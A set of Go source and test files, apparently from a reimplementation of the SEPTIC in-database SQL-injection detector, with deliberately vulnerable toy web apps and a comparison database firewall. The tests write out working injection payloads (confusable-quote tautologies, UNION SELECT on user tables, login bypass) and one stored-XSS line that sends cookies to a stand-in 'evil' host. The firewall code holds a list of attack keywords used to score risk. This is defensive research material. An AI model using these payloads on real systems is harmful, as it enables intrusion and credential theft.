	"strings"
	"testing"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/webapp"
)

// deploy builds an app over a fresh engine (optionally protected),
// installs its schema, and trains SEPTIC on the training requests when a
// guard is given.
func deploy(t *testing.T, schema []string, build func(webapp.Executor) *webapp.App,
	training []webapp.Request, guard *core.Septic) *webapp.App {
	t.Helper()
	var db *engine.DB
	if guard != nil {
		db = engine.New(engine.WithQueryHook(guard))
		guard.SetConfig(core.Config{Mode: core.ModeTraining})
	} else {
		db = engine.New()
	}
	for _, q := range schema {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("schema %q: %v", q, err)
		}
	}
	app := build(db)
	for _, req := range training {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			t.Fatalf("training request %s failed: %+v", req, resp)
		}
	}
	if guard != nil {
		guard.SetConfig(core.Config{
			Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
			IncrementalLearning: false,
		})
	}
	return app
}

type appCase struct {
	name     string
	schema   []string
	build    func(webapp.Executor) *webapp.App
	training []webapp.Request
	workload []webapp.Request
}

func allApps() []appCase {
	return []appCase{
		{"waspmon", WaspMonSchema(), NewWaspMon, WaspMonTraining(), WaspMonWorkload()},
		{"addressbook", AddressBookSchema(), NewAddressBook, AddressBookTraining(), AddressBookWorkload()},
		{"refbase", RefbaseSchema(), NewRefbase, RefbaseTraining(), RefbaseWorkload()},
		{"zerocms", ZeroCMSSchema(), NewZeroCMS, ZeroCMSTraining(), ZeroCMSWorkload()},
	}
}

// TestAppsServeTrainingAndWorkload: every page works unprotected.
func TestAppsServeTrainingAndWorkload(t *testing.T) {
	for _, tc := range allApps() {
		t.Run(tc.name, func(t *testing.T) {
			app := deploy(t, tc.schema, tc.build, tc.training, nil)
			for _, req := range tc.workload {
				resp := app.Serve(req.Clone())
				if resp.Status != 200 {
					t.Errorf("%s: status %d (%v)", req, resp.Status, resp.Err)
				}
			}
		})
	}
}

// TestAppsWorkloadSizesMatchPaper pins the §II-F request counts.
func TestAppsWorkloadSizesMatchPaper(t *testing.T) {
	if n := len(AddressBookWorkload()); n != 12 {
		t.Errorf("PHP Address Book workload = %d requests, paper says 12", n)
	}
	if n := len(RefbaseWorkload()); n != 14 {
		t.Errorf("refbase workload = %d requests, paper says 14", n)
	}
	if n := len(ZeroCMSWorkload()); n != 26 {
		t.Errorf("ZeroCMS workload = %d requests, paper says 26", n)
	}
}

// TestAppsNoFalsePositivesUnderSEPTIC: the benign workload passes with
// prevention on (demo phase D: "no false positives").
func TestAppsNoFalsePositivesUnderSEPTIC(t *testing.T) {
	for _, tc := range allApps() {
		t.Run(tc.name, func(t *testing.T) {
			guard := core.New(core.Config{Mode: core.ModeTraining})
			app := deploy(t, tc.schema, tc.build, tc.training, guard)
			for _, req := range tc.workload {
				resp := app.Serve(req.Clone())
				if resp.Blocked {
					t.Errorf("false positive on %s: %+v", req, resp.Err)
				}
				if resp.Status != 200 {
					t.Errorf("%s: status %d (%v)", req, resp.Status, resp.Err)
				}
			}
			if got := guard.Stats().AttacksFound; got != 0 {
				t.Errorf("attacks found on benign workload: %d", got)
			}
		})
	}
}

// TestWaspMonSemanticMismatchVulnerable proves the unprotected app is
// attackable despite sanitization (demo phase A).
func TestWaspMonSemanticMismatchVulnerable(t *testing.T) {
	app := deploy(t, WaspMonSchema(), NewWaspMon, nil, nil)

	// U+02BC tautology through the sanitized string context: dumps every
	// device even though none is named "nothing".
	resp := app.Serve(webapp.Request{Path: "/device/view", Params: map[string]string{
		"name": "nothingʼ OR ʼ1ʼ=ʼ1",
	}})
	if resp.Status != 200 {
		t.Fatalf("attack request errored: %+v", resp)
	}
	if strings.Contains(resp.Body, "device not found") {
		t.Error("mismatch tautology did not fire — expected a data dump")
	}
	if !strings.Contains(resp.Body, "heatpump") {
		t.Errorf("expected dumped devices, got %q", resp.Body)
	}

	// Numeric-context injection: history for device "1 OR 1=1" dumps all
	// readings of all devices.
	resp = app.Serve(webapp.Request{Path: "/reading/history", Params: map[string]string{
		"device": "1 OR 1=1", "limit": "100",
	}})
	if resp.Status != 200 {
		t.Fatalf("numeric attack errored: %+v", resp)
	}
	if got := strings.Count(resp.Body, "t="); got < 5 {
		t.Errorf("numeric injection returned %d readings, want all 5", got)
	}
}

// TestWaspMonSecondOrderVulnerable proves the stored-quote second-order
// flow works against the unprotected app.
func TestWaspMonSecondOrderVulnerable(t *testing.T) {
	app := deploy(t, WaspMonSchema(), NewWaspMon, nil, nil)

	// Step 1: register a user whose name carries a quote; escaping makes
	// the INSERT safe, but the DBMS stores the raw quote.
	resp := app.Serve(webapp.Request{Path: "/user/register", Params: map[string]string{
		"username": "basement' OR '1'='1", "email": "x@example.com", "notes": "-",
	}})
	if resp.Status != 200 {
		t.Fatalf("register failed: %+v", resp)
	}
	// Step 2: the profile page reads the stored name back and
	// concatenates it into the devices query — tautology fires.
	resp = app.Serve(webapp.Request{Path: "/user/profile", Params: map[string]string{"id": "2"}})
	if resp.Status != 200 {
		t.Fatalf("profile failed: %+v", resp)
	}
	if !strings.Contains(resp.Body, "user has 3 devices") {
		t.Errorf("second-order tautology should list every seeded device, got %q", resp.Body)
	}
}

// TestWaspMonProtectedBlocksAttacks: the same attacks die with SEPTIC in
// prevention mode (demo phase D).
func TestWaspMonProtectedBlocksAttacks(t *testing.T) {
	guard := core.New(core.Config{Mode: core.ModeTraining})
	app := deploy(t, WaspMonSchema(), NewWaspMon, WaspMonTraining(), guard)

	attacks := []webapp.Request{
		{Path: "/device/view", Params: map[string]string{"name": "nothingʼ OR ʼ1ʼ=ʼ1"}},
		// Note: a bare "xʼ-- " payload here would only truncate the final
		// quote and leave the structure identical to the model — harmless,
		// and correctly not flagged. The structural variants below are the
		// real attacks.
		{Path: "/device/view", Params: map[string]string{"name": "xʼ AND ʼ1ʼ=ʼ1"}},
		{Path: "/reading/history", Params: map[string]string{"device": "1 OR 1=1", "limit": "10"}},
		{Path: "/reading/history", Params: map[string]string{"device": "0 UNION SELECT username, email FROM wm_users", "limit": "10"}},
		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "<script>document.location='http://evil?c='+document.cookie</script>"}},
	}
	for _, req := range attacks {
		resp := app.Serve(req.Clone())
		if !resp.Blocked {
			t.Errorf("attack not blocked: %s -> %+v", req, resp)
		}
	}
	if got := int(guard.Stats().AttacksBlocked); got != len(attacks) {
		t.Errorf("blocked = %d, want %d", got, len(attacks))
	}
}

// TestWaspMonProtectedSecondOrder: SEPTIC blocks the second-order attack
// at its second step — the read-back query with the live quote.
func TestWaspMonProtectedSecondOrder(t *testing.T) {
	guard := core.New(core.Config{Mode: core.ModeTraining})
	app := deploy(t, WaspMonSchema(), NewWaspMon, WaspMonTraining(), guard)

	// Step 1 (the INSERT) is structurally benign and must pass.
	resp := app.Serve(webapp.Request{Path: "/user/register", Params: map[string]string{
		"username": "basement' OR '1'='1", "email": "x@example.com", "notes": "-",
	}})
	if resp.Status != 200 {
		t.Fatalf("benign-shaped register blocked: %+v", resp)
	}
	// Step 2 is where the injection becomes structural: blocked. (The
	// training traffic registered alice and bob, so the planted user is
	// id 4.)
	resp = app.Serve(webapp.Request{Path: "/user/profile", Params: map[string]string{"id": "4"}})
	if !resp.Blocked {
		t.Errorf("second-order read-back not blocked: %+v", resp)
	}
}

// TestOrderByVariantsAreDistinctModels documents a deployment-relevant
// property of structure learning: "ORDER BY name" and "ORDER BY
// location" are different query structures under one identifier, so a
// sort column the training never exercised is flagged — a false
// positive from the operator's perspective, an untrained query from
// SEPTIC's. The remedies are to train every legitimate sort (as the
// crawler would, given form metadata) or to whitelist the column
// app-side; the test pins the raw behaviour so a change is noticed.
func TestOrderByVariantsAreDistinctModels(t *testing.T) {
	guard := core.New(core.Config{Mode: core.ModeTraining})
	app := deploy(t, WaspMonSchema(), NewWaspMon, WaspMonTraining(), guard)

	// Trained: default sort (name). Untrained legitimate variant:
	resp := app.Serve(webapp.Request{Path: "/devices", Params: map[string]string{"sort": "location"}})
	if !resp.Blocked {
		t.Fatalf("untrained sort column should mismatch the model: %+v", resp.Status)
	}

	// After training the variant, it passes.
	guard.SetConfig(core.Config{Mode: core.ModeTraining})
	if resp := app.Serve(webapp.Request{Path: "/devices", Params: map[string]string{"sort": "location"}}); resp.Status != 200 {
		t.Fatalf("training the variant failed: %+v", resp)
	}
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: false,
	})
	if resp := app.Serve(webapp.Request{Path: "/devices", Params: map[string]string{"sort": "location"}}); resp.Blocked {
		t.Error("trained sort variant still blocked")
	}
	// And the injection stays blocked.
	resp = app.Serve(webapp.Request{Path: "/devices", Params: map[string]string{
		"sort": "(SELECT username FROM wm_users LIMIT 1)",
	}})
	if !resp.Blocked {
		t.Error("ORDER BY subquery injection not blocked")
	}
}

// TestZeroCMSLoginBypassBlocked: the classic auth-bypass, mismatch
// edition, against the CMS.
func TestZeroCMSLoginBypassBlocked(t *testing.T) {
	guard := core.New(core.Config{Mode: core.ModeTraining})
	app := deploy(t, ZeroCMSSchema(), NewZeroCMS, ZeroCMSTraining(), guard)

	resp := app.Serve(webapp.Request{Path: "/login", Params: map[string]string{
		"user": "adminʼ-- ", "pass": "whatever",
	}})
	if !resp.Blocked {
		t.Errorf("login bypass not blocked: %+v", resp)
	}
}

// TestZeroCMSLoginBypassWorksUnprotected documents the vulnerability the
// protection test above covers.
func TestZeroCMSLoginBypassWorksUnprotected(t *testing.T) {
	app := deploy(t, ZeroCMSSchema(), NewZeroCMS, nil, nil)
	resp := app.Serve(webapp.Request{Path: "/login", Params: map[string]string{
		"user": "adminʼ-- ", "pass": "whatever",
	}})
	if resp.Status != 200 {
		t.Fatalf("attack errored: %+v", resp)
	}
	if !strings.Contains(resp.Body, "welcome, role=admin") {
		t.Errorf("auth bypass failed, got %q", resp.Body)
	}
}

// TestStoredXSSRoundTripUnprotected shows the full stored-XSS chain:
// markup survives escaping, lands in the database, and is echoed.
func TestStoredXSSRoundTripUnprotected(t *testing.T) {
	app := deploy(t, WaspMonSchema(), NewWaspMon, nil, nil)
	payload := "<script>alert('Hello!');</script>"
	resp := app.Serve(webapp.Request{Path: "/note/add", Params: map[string]string{
		"id": "1", "notes": payload,
	}})
	if resp.Status != 200 {
		t.Fatalf("note add failed: %+v", resp)
	}
	resp = app.Serve(webapp.Request{Path: "/note/view", Params: map[string]string{"id": "1"}})
	if !strings.Contains(resp.Body, payload) {
		t.Errorf("stored XSS did not round-trip: %q", resp.Body)
	}
}
