package webapp

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestMySQLRealEscapeString(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain", "plain"},
		{"a'b", `a\'b`},
		{`a"b`, `a\"b`},
		{`a\b`, `a\\b`},
		{"a\x00b", `a\0b`},
		{"a\nb", `a\nb`},
		{"a\rb", `a\rb`},
		{"a\x1ab", `a\Zb`},
		{"", ""},
	}
	for _, tt := range tests {
		if got := MySQLRealEscapeString(tt.in); got != tt.want {
			t.Errorf("MySQLRealEscapeString(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestMySQLRealEscapeStringSemanticGap pins the behaviour the paper's
// attacks exploit: the function does not touch multi-byte confusables.
func TestMySQLRealEscapeStringSemanticGap(t *testing.T) {
	payloads := []string{
		"ID34FGʼ-- ",         // U+02BC modifier apostrophe
		"O’Brien",            // U+2019 right single quote
		"xʼ OR 1=1-- ",       // mismatch tautology
		"1 OR 1=1",           // numeric context: nothing to escape
		"<script>x</script>", // markup: not its job
	}
	for _, p := range payloads {
		if got := MySQLRealEscapeString(p); got != p {
			t.Errorf("escape altered %q -> %q; the semantic gap requires pass-through", p, got)
		}
	}
}

func TestAddSlashes(t *testing.T) {
	if got := AddSlashes(`it's a "test" \`); got != `it\'s a \"test\" \\` {
		t.Errorf("AddSlashes = %q", got)
	}
}

func TestHTMLSpecialChars(t *testing.T) {
	in := `<script>alert("x & y')</script>`
	out := HTMLSpecialChars(in)
	if strings.ContainsAny(out, "<>\"'") {
		t.Errorf("unescaped characters remain: %q", out)
	}
	if !strings.Contains(out, "&lt;script&gt;") {
		t.Errorf("output = %q", out)
	}
}

func TestStripTags(t *testing.T) {
	tests := []struct{ in, want string }{
		{"<b>bold</b>", "bold"},
		{"a <script>x</script> b", "a x b"},
		{"no tags", "no tags"},
		{"broken <tag", "broken "},
		{"<><>", ""},
	}
	for _, tt := range tests {
		if got := StripTags(tt.in); got != tt.want {
			t.Errorf("StripTags(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestIsNumeric(t *testing.T) {
	yes := []string{"0", "42", "-7", "+3", "3.14", ".5", "1e9", "2E-3", " 42", "42 "}
	for _, s := range yes {
		if !IsNumeric(s) {
			t.Errorf("IsNumeric(%q) = false, want true", s)
		}
	}
	no := []string{"", "abc", "1 OR 1=1", "12abc", "1;2", "0x1A", "1.2.3", "e9", "--5", "1e", "'1'"}
	for _, s := range no {
		if IsNumeric(s) {
			t.Errorf("IsNumeric(%q) = true, want false", s)
		}
	}
}

func TestIntVal(t *testing.T) {
	tests := []struct {
		in   string
		want int64
	}{
		{"42", 42}, {"-7", -7}, {"+3", 3}, {"12abc", 12},
		{"abc", 0}, {"", 0}, {" 5", 5}, {"3.9", 3},
	}
	for _, tt := range tests {
		if got := IntVal(tt.in); got != tt.want {
			t.Errorf("IntVal(%q) = %d, want %d", tt.in, got, tt.want)
		}
	}
}

// TestEscapeNeverBreaksStringContext: for ASCII inputs, embedding the
// escaped value in single quotes must always parse back to the original —
// the guarantee developers believe they have (and the one confusables
// break, which is exactly the semantic mismatch).
func TestEscapeNeverBreaksStringContextASCII(t *testing.T) {
	f := func(raw string) bool {
		ascii := make([]byte, 0, len(raw))
		for _, r := range raw {
			if r < 0x80 {
				ascii = append(ascii, byte(r))
			}
		}
		s := string(ascii)
		quoted := "'" + MySQLRealEscapeString(s) + "'"
		// The quoted literal must contain no unescaped quote that would
		// terminate the string early.
		depth := 0
		for i := 1; i < len(quoted)-1; i++ {
			switch quoted[i] {
			case '\\':
				i++
			case '\'':
				depth++
			}
		}
		return depth == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
