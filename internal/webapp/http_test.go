package webapp_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/waf"
	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/webapp/apps"
)

// newHTTPWaspMon boots a SEPTIC-protected WaspMon behind httptest.
func newHTTPWaspMon(t *testing.T) (*httptest.Server, *core.Septic) {
	t.Helper()
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	for _, q := range apps.WaspMonSchema() {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	app := apps.NewWaspMon(db)
	for _, req := range apps.WaspMonTraining() {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			t.Fatalf("training %s: %v", req, resp.Err)
		}
	}
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: false,
	})
	srv := httptest.NewServer(webapp.HTTPHandler(app))
	t.Cleanup(srv.Close)
	return srv, guard
}

func get(t *testing.T, rawURL string) (int, string) {
	t.Helper()
	resp, err := http.Get(rawURL)
	if err != nil {
		t.Fatalf("GET %s: %v", rawURL, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

func TestHTTPServesApplication(t *testing.T) {
	srv, _ := newHTTPWaspMon(t)
	status, body := get(t, srv.URL+"/devices")
	if status != 200 || !strings.Contains(body, "heatpump") {
		t.Fatalf("status %d body %q", status, body)
	}
	status, body = get(t, srv.URL+"/device/view?name=oven")
	if status != 200 || !strings.Contains(body, "oven") {
		t.Fatalf("status %d body %q", status, body)
	}
}

func TestHTTPBlocksAttackWith403(t *testing.T) {
	srv, guard := newHTTPWaspMon(t)
	attack := srv.URL + "/device/view?name=" + url.QueryEscape("nothingʼ OR ʼ1ʼ=ʼ1")
	status, body := get(t, attack)
	if status != http.StatusForbidden {
		t.Fatalf("status = %d body %q, want 403", status, body)
	}
	if !strings.Contains(body, "SEPTIC") {
		t.Errorf("block page should name the mechanism: %q", body)
	}
	if guard.Stats().AttacksBlocked != 1 {
		t.Errorf("stats = %+v", guard.Stats())
	}
}

func TestHTTPPostForm(t *testing.T) {
	srv, _ := newHTTPWaspMon(t)
	resp, err := http.PostForm(srv.URL+"/device/add", url.Values{
		"name": {"dishwasher"}, "location": {"kitchen"}, "maxWatts": {"1800"},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	status, body := get(t, srv.URL+"/device/view?name=dishwasher")
	if status != 200 || !strings.Contains(body, "dishwasher") {
		t.Fatalf("round trip failed: %d %q", status, body)
	}
}

func TestHTTPUnknownPathIs404(t *testing.T) {
	srv, _ := newHTTPWaspMon(t)
	status, _ := get(t, srv.URL+"/no-such-page")
	if status != http.StatusNotFound {
		t.Fatalf("status = %d, want 404", status)
	}
}

func TestHTTPBadParamIs400(t *testing.T) {
	srv, _ := newHTTPWaspMon(t)
	status, _ := get(t, srv.URL+"/note/view?id=notanumber")
	if status != http.StatusBadRequest {
		t.Fatalf("status = %d, want 400", status)
	}
}

func TestWAFMiddleware(t *testing.T) {
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	for _, q := range apps.WaspMonSchema() {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	app := apps.NewWaspMon(db)
	w := waf.New()
	handler := webapp.WAFMiddleware(func(req webapp.Request) bool {
		return w.Check(req).Blocked
	}, webapp.HTTPHandler(app))
	srv := httptest.NewServer(handler)
	defer srv.Close()

	// Classic payload: blocked at the WAF layer with the ModSecurity page.
	status, body := get(t, srv.URL+"/device/view?name="+url.QueryEscape("' OR '1'='1"))
	if status != http.StatusForbidden || !strings.Contains(body, "ModSecurity") {
		t.Fatalf("status %d body %q", status, body)
	}
	// Confusable payload: sails through the WAF (and, unprotected
	// downstream in this deployment, hits the application).
	status, _ = get(t, srv.URL+"/device/view?name="+url.QueryEscape("nothingʼ OR ʼ1ʼ=ʼ1"))
	if status != 200 {
		t.Fatalf("mismatch payload should pass the WAF: %d", status)
	}
}
