// Package webapp is a miniature PHP-style web application framework: the
// substrate standing in for the paper's Apache + Zend + PHP stack. It
// exists to produce exactly the query streams the demonstration needs —
// applications whose entry points are sanitized with the PHP functions'
// byte-level semantics, and which therefore remain vulnerable to the
// semantic-mismatch attacks SEPTIC blocks.
//
// Applications register handlers for paths; handlers read request
// parameters (the PHP superglobals), sanitize them, concatenate them
// into SQL text (the idiom the paper's vulnerable applications use) and
// run the queries against an Executor — either the engine directly or a
// wire client.
package webapp

import (
	"errors"
	"fmt"
	"sort"
	"strings"

	"github.com/septic-db/septic/internal/engine"
)

// Executor runs SQL. Both *engine.DB and *wire.Client satisfy it, so an
// application can sit in-process (benchmarks) or behind the wire
// protocol (the demo deployment). ExecArgs is the prepared-statement
// path: placeholders bound in the AST, never by text substitution.
type Executor interface {
	Exec(query string) (*engine.Result, error)
	ExecArgs(query string, args ...engine.Value) (*engine.Result, error)
}

// Request models one HTTP request to the application.
type Request struct {
	// Path routes to a handler ("/search").
	Path string
	// Params are the merged GET/POST parameters.
	Params map[string]string
}

// Clone deep-copies the request (workloads are replayed concurrently).
func (r Request) Clone() Request {
	params := make(map[string]string, len(r.Params))
	for k, v := range r.Params {
		params[k] = v
	}
	return Request{Path: r.Path, Params: params}
}

// String renders the request like an access-log line.
func (r Request) String() string {
	if len(r.Params) == 0 {
		return r.Path
	}
	keys := make([]string, 0, len(r.Params))
	for k := range r.Params {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	b.WriteString(r.Path)
	b.WriteString("?")
	for i, k := range keys {
		if i > 0 {
			b.WriteString("&")
		}
		b.WriteString(k)
		b.WriteString("=")
		b.WriteString(r.Params[k])
	}
	return b.String()
}

// Response is the outcome of one request.
type Response struct {
	// Status follows HTTP conventions: 200 OK, 404 unknown path, 500
	// handler/database failure.
	Status int
	// Body is the rendered page.
	Body string
	// Err is the underlying failure for non-200 responses.
	Err error
	// Blocked reports that the database dropped a query (SEPTIC).
	Blocked bool
	// Queries lists the SQL statements the handler sent, in order (the
	// demo displays them).
	Queries []string
}

// HandlerFunc services one request.
type HandlerFunc func(ctx *Ctx)

// App is one web application: a named set of handlers over a database.
type App struct {
	// Name identifies the application in reports.
	Name     string
	db       Executor
	handlers map[string]HandlerFunc
}

// NewApp creates an application bound to a database.
func NewApp(name string, db Executor) *App {
	return &App{Name: name, db: db, handlers: make(map[string]HandlerFunc)}
}

// Handle registers a handler for path, replacing any previous one.
func (a *App) Handle(path string, h HandlerFunc) {
	a.handlers[path] = h
}

// Paths returns the registered paths, sorted (the attacker's crawler and
// SEPTIC's training module walk these).
func (a *App) Paths() []string {
	out := make([]string, 0, len(a.handlers))
	for p := range a.handlers {
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// Serve dispatches one request.
func (a *App) Serve(req Request) *Response {
	h, ok := a.handlers[req.Path]
	if !ok {
		return &Response{Status: 404, Err: fmt.Errorf("no handler for %s", req.Path)}
	}
	ctx := &Ctx{app: a, req: req, status: 200}
	h(ctx)
	resp := &Response{
		Status:  ctx.status,
		Body:    ctx.body.String(),
		Err:     ctx.err,
		Blocked: ctx.blocked,
		Queries: ctx.queries,
	}
	return resp
}

// Ctx is the per-request context handlers operate on.
type Ctx struct {
	app     *App
	req     Request
	body    strings.Builder
	status  int
	err     error
	blocked bool
	queries []string
}

// Param returns a request parameter ($_GET/$_POST access).
func (c *Ctx) Param(name string) string {
	return c.req.Params[name]
}

// HasParam reports whether the parameter was supplied at all.
func (c *Ctx) HasParam(name string) bool {
	_, ok := c.req.Params[name]
	return ok
}

// Write appends page output.
func (c *Ctx) Write(s string) {
	c.body.WriteString(s)
}

// Writef appends formatted page output.
func (c *Ctx) Writef(format string, args ...any) {
	fmt.Fprintf(&c.body, format, args...)
}

// Fail marks the request failed with an application-level error.
func (c *Ctx) Fail(status int, err error) {
	c.status = status
	c.err = err
}

// Query sends SQL to the database, recording it for the demo display and
// translating a SEPTIC block into a 403 page ("the attack is blocked,
// the query is dropped... This action is visible in the browser").
func (c *Ctx) Query(sql string) (*engine.Result, error) {
	c.queries = append(c.queries, sql)
	return c.finish(c.app.db.Exec(sql))
}

// QueryArgs is the prepared-statement variant of Query.
func (c *Ctx) QueryArgs(sql string, args ...engine.Value) (*engine.Result, error) {
	c.queries = append(c.queries, sql)
	return c.finish(c.app.db.ExecArgs(sql, args...))
}

func (c *Ctx) finish(res *engine.Result, err error) (*engine.Result, error) {
	if err != nil {
		if errors.Is(err, engine.ErrQueryBlocked) {
			c.blocked = true
			c.status = 403
			c.err = err
			return nil, err
		}
		c.status = 500
		c.err = err
		return nil, err
	}
	return res, nil
}
