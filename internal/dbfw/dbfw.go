// Package dbfw implements a GreenSQL-style database firewall: a learning
// SQL proxy that sits BETWEEN the application and the DBMS (the related-
// work deployment the paper contrasts SEPTIC with, §I and §II-B).
//
// The firewall normalizes the *text* of each query — replacing literals
// with placeholders — and learns the set of normalized shapes during a
// training phase. In enforcement mode, queries whose normalized shape
// was never learned are blocked, optionally combined with a risk score
// over suspicious textual features.
//
// Its decisive limitation, which the benchmarks quantify, is positional:
// it sees the query BEFORE the DBMS decodes it. A confusable quote is
// still a multi-byte character, so the attacked query normalizes to the
// same shape as the benign one and passes — the same query a SEPTIC
// inside the DBMS rejects after decoding. This is the paper's argument
// for moving detection inside the DBMS, rendered executable.
package dbfw

import (
	"errors"
	"fmt"
	"strings"
	"sync"

	"github.com/septic-db/septic/internal/engine"
)

// ErrBlockedByProxy is wrapped by errors for queries the firewall drops.
var ErrBlockedByProxy = errors.New("query blocked by database firewall")

// Mode is the firewall's operation mode.
type Mode int

// Modes.
const (
	ModeInvalid Mode = iota
	// ModeLearning records normalized query shapes and forwards
	// everything.
	ModeLearning
	// ModeEnforcing blocks queries with unknown shapes or risky text.
	ModeEnforcing
)

// Decision records what the firewall did with one query.
type Decision struct {
	Blocked bool
	// Unknown reports the normalized shape was never learned.
	Unknown bool
	// Risk is the textual risk score.
	Risk int
	// Pattern is the normalized shape.
	Pattern string
}

// Executor is the downstream the proxy forwards to (usually *engine.DB,
// possibly a wire client).
type Executor interface {
	Exec(query string) (*engine.Result, error)
	ExecArgs(query string, args ...engine.Value) (*engine.Result, error)
}

// Firewall is a learning SQL proxy in front of an Executor.
type Firewall struct {
	next Executor

	mu       sync.RWMutex
	mode     Mode
	patterns map[string]struct{}
	blocked  int64
	passed   int64
}

// New builds a firewall proxying to next (usually the real DB).
func New(next Executor) *Firewall {
	return &Firewall{
		next:     next,
		mode:     ModeLearning,
		patterns: make(map[string]struct{}),
	}
}

// SetMode switches learning/enforcing.
func (f *Firewall) SetMode(m Mode) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.mode = m
}

// PatternCount returns how many shapes were learned.
func (f *Firewall) PatternCount() int {
	f.mu.RLock()
	defer f.mu.RUnlock()
	return len(f.patterns)
}

// Counters returns (passed, blocked).
func (f *Firewall) Counters() (int64, int64) {
	f.mu.RLock()
	defer f.mu.RUnlock()
	return f.passed, f.blocked
}

// Exec filters one query and forwards it when allowed, satisfying
// webapp.Executor so applications can run unchanged behind the proxy.
func (f *Firewall) Exec(query string) (*engine.Result, error) {
	d := f.Inspect(query)
	if d.Blocked {
		return nil, fmt.Errorf("%w: unknown shape %q (risk %d)", ErrBlockedByProxy, d.Pattern, d.Risk)
	}
	return f.next.Exec(query)
}

// ExecArgs filters a parameterized query and forwards it when allowed.
// Only the template text is inspected: bound values never enter the
// query text, so they cannot change its shape — but the proxy also
// performs no charset decoding on them, which is exactly why a
// confusable payload stored through this path is invisible to it.
func (f *Firewall) ExecArgs(query string, args ...engine.Value) (*engine.Result, error) {
	d := f.Inspect(query)
	if d.Blocked {
		return nil, fmt.Errorf("%w: unknown shape %q (risk %d)", ErrBlockedByProxy, d.Pattern, d.Risk)
	}
	return f.next.ExecArgs(query, args...)
}

// Inspect renders the decision for one query without forwarding it.
func (f *Firewall) Inspect(query string) Decision {
	pattern := Normalize(query)
	risk := riskScore(query)

	f.mu.Lock()
	defer f.mu.Unlock()
	switch f.mode {
	case ModeLearning:
		f.patterns[pattern] = struct{}{}
		f.passed++
		return Decision{Pattern: pattern, Risk: risk}
	default:
		_, known := f.patterns[pattern]
		d := Decision{Pattern: pattern, Risk: risk, Unknown: !known}
		if !known || risk >= riskThreshold {
			d.Blocked = true
			f.blocked++
			return d
		}
		f.passed++
		return d
	}
}

// riskThreshold blocks a known-shape query whose text still screams
// attack (GreenSQL's risk heuristics).
const riskThreshold = 10

// riskScore implements GreenSQL-style textual heuristics.
func riskScore(query string) int {
	lower := strings.ToLower(query)
	score := 0
	for _, probe := range []struct {
		needle string
		points int
	}{
		{"union select", 10},
		{"into outfile", 10},
		{"load_file", 10},
		{"information_schema", 10},
		{"sleep(", 8},
		{"benchmark(", 8},
		{"or 1=1", 10},
		{"or '1'='1", 10},
		{"; drop", 10},
		{"; delete", 8},
	} {
		if strings.Contains(lower, probe.needle) {
			score += probe.points
		}
	}
	return score
}

// Normalize reduces a query to its textual shape: string literals become
// ?s, numbers become ?n, whitespace collapses, keywords lower-case. The
// crucial property (and flaw): it tokenizes the RAW text with generic
// SQL rules — it cannot know that the DBMS will later fold a confusable
// into a quote, so such a payload stays inside the ?s placeholder.
func Normalize(query string) string {
	var b strings.Builder
	b.Grow(len(query))
	i := 0
	lastSpace := true
	writeByte := func(c byte) {
		b.WriteByte(c)
		lastSpace = false
	}
	for i < len(query) {
		c := query[i]
		switch {
		case c == '\'' || c == '"':
			// Skip the literal, honoring backslash escapes and doubling.
			quote := c
			i++
			for i < len(query) {
				if query[i] == '\\' && i+1 < len(query) {
					i += 2
					continue
				}
				if query[i] == quote {
					if i+1 < len(query) && query[i+1] == quote {
						i += 2
						continue
					}
					i++
					break
				}
				i++
			}
			b.WriteString("?s")
			lastSpace = false
		case c >= '0' && c <= '9':
			for i < len(query) && (query[i] >= '0' && query[i] <= '9' || query[i] == '.') {
				i++
			}
			b.WriteString("?n")
			lastSpace = false
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			if !lastSpace {
				b.WriteByte(' ')
				lastSpace = true
			}
			i++
		case c == '-' && i+1 < len(query) && query[i+1] == '-':
			// Line comment: drop to end of line.
			for i < len(query) && query[i] != '\n' {
				i++
			}
		case c == '#':
			for i < len(query) && query[i] != '\n' {
				i++
			}
		case c == '/' && i+1 < len(query) && query[i+1] == '*':
			end := strings.Index(query[i+2:], "*/")
			if end < 0 {
				i = len(query)
				break
			}
			i += 2 + end + 2
		case c >= 'A' && c <= 'Z':
			writeByte(c + ('a' - 'A'))
			i++
		default:
			writeByte(c)
			i++
		}
	}
	return strings.TrimSpace(b.String())
}
