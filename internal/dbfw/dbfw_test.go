package dbfw

import (
	"errors"
	"testing"

	"github.com/septic-db/septic/internal/engine"
)

func newDB(t *testing.T) *engine.DB {
	t.Helper()
	db := engine.New()
	for _, q := range []string{
		"CREATE TABLE tickets (id INT, reservID TEXT, creditCard INT)",
